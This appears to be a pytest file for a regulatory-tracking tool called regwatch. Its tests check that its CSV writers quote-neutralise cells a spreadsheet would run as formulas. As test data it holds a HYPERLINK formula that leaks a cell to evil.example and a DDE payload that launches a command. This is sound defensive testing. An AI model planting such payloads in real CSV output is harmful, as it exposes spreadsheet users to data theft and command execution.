"""Reports under pressure: CSV cells a spreadsheet would run as formulas, and writers racing on one folder."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from regwatch.domain.models import Change, StatusRow
from regwatch.domain.vocab import ChangeKind, Severity, Status, Substance
from regwatch.reports.writer import changes_csv, status_csv

REGWATCH = Path(__file__).resolve().parents[2] / "regwatch"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def regwatch(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "regwatch", *args], capture_output=True, text=True, check=False)


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


# 17. CSV formula injection ------------------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the bill")'


def test_no_csv_regwatch_writes_holds_a_formula(tmp_path: Path) -> None:
    notice = {
        "id": "@SUM(1+1)*cmd|' /C calc'!A0",
        "jurisdiction": "US-LA",
        "source": "openstates",
        "kind": "bill",
        "title": "Provides relative to kratom",
        "text": "it is unlawful for any person to knowingly or intentionally produce, distribute or possess Kratom",
        "url": HYPERLINK,
        "published": "2025-03-10",
        "effective": "2025-08-01",
        "actions": [{"date": "2025-06-04", "description": "Signed by the Governor. Becomes Act No. 41."}],
    }
    file = tmp_path / "n.jsonl"
    file.write_text(json.dumps(notice) + "\n", encoding="utf-8")
    assert regwatch("ingest", str(file)).returncode == 0
    assert regwatch("run", "--no-baseline", "--no-crawl", "--as-of", "2025-01-01").returncode == 0
    assert regwatch("run", "--no-baseline", "--no-crawl", "--as-of", "2025-08-02").returncode == 0
    reports = Path(os.environ["REGWATCH_REPORTS_DIR"])
    written = {
        "status.csv": (reports / "2025-08-02" / "status.csv").read_text(encoding="utf-8"),
        "status --format csv": regwatch("status", "--as-of", "2025-08-02", "--format", "csv").stdout,
        "changes --format csv": regwatch("changes", "--format", "csv").stdout,
    }
    for name, text in written.items():
        found = cells(text)
        assert f"'{HYPERLINK}" in found, name  # the text is kept, behind the quote that makes it text
        assert [c for c in found if c.startswith(FORMULA_STARTS)] == [], name
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells(written["changes --format csv"])


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
def test_every_formula_start_is_neutralised_in_both_csv_writers(start: str) -> None:
    value = f"{start}1+2"
    row = StatusRow(jurisdiction="US-LA", substance=Substance.KRATOM, status=Status.BANNED, evidence=[value])
    change = Change(
        id="c1", run="r", kind=ChangeKind.SOURCE_BROKEN, severity=Severity.HIGH, source=value, summary=value
    )
    for text in (status_csv([row]), changes_csv([change])):
        found = cells(text)
        assert f"'{value}" in found
        assert [c for c in found if c.startswith(FORMULA_STARTS)] == []


def test_every_csv_is_written_through_the_one_neutralising_function() -> None:
    """csv.writer and csv.DictWriter appear once in regwatch: in the function that neutralises every cell."""
    uses = [
        f"{path.relative_to(REGWATCH)}:{number}"
        for path in sorted(REGWATCH.rglob("*.py"))
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
        if re.search(r"\bcsv\.(writer|DictWriter)\b", line)
    ]
    assert len(uses) == 1 and uses[0].startswith("reports/writer.py:"), uses
